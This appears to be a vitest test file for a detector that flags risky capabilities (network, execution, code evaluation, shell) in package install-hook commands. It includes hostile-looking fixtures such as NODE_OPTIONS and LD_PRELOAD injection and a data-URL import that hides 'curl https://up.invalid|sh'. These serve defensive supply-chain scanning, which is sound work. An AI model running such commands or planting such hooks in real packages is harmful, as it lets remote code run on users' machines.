import { expect, it } from 'vitest'
import type { Capability } from '../../capability.ts'
import { hookSigns } from './hook-signs.ts'

it.each<[command: string, ...can: Capability[]]>([
  ['npx --yes commander-doctor', 'network', 'execute'],
  ['python3 -m pip install helper', 'network', 'execute'],
  ['npm i --no-save helper@1', 'network', 'execute'],
  ['cross-env A=b pnpm dlx helper', 'network', 'execute'],
  ['NODE_OPTIONS=--require=./x.cjs node check.js', 'evaluate'],
  ['LD_PRELOAD=./x.so node check.js', 'evaluate'],
  ["node --import 'data:text/javascript,import(%22node:fs%22)' check.js", 'decode', 'evaluate'],
  ['prebuild-install --download https://cdn.invalid/b.tgz', 'execute'],
])('%s', (command, ...can) => {
  expect([...hookSigns(command).capabilities]).toEqual(expect.arrayContaining(can))
})

it.each([
  'node-gyp rebuild',
  'npx patch-package',
  'npm run build',
  'npm install',
  'cd sub && npm install',
  'npm i ./vendor/helper-1.0.0.tgz',
  'NODE_OPTIONS=--max-old-space-size=4096 node build.js',
  'node install/check.js || npm run build',
])('fetches and loads nothing else: %s', (command) => {
  const { capabilities } = hookSigns(command, new Set(['patch-package']))
  for (const not of ['network', 'evaluate', 'decode'] as const) expect(capabilities.has(not)).toBe(false)
})

it('reads the shell commands inside an address that is code', () => {
  const { capabilities, hosts } = hookSigns('node --import=data:text/javascript,x.exec(%22curl%20https://up.invalid%7Csh%22) a.js')
  expect([...hosts]).toEqual(['up.invalid'])
  expect([...capabilities]).toEqual(expect.arrayContaining<Capability>(['network', 'shell', 'evaluate']))
})
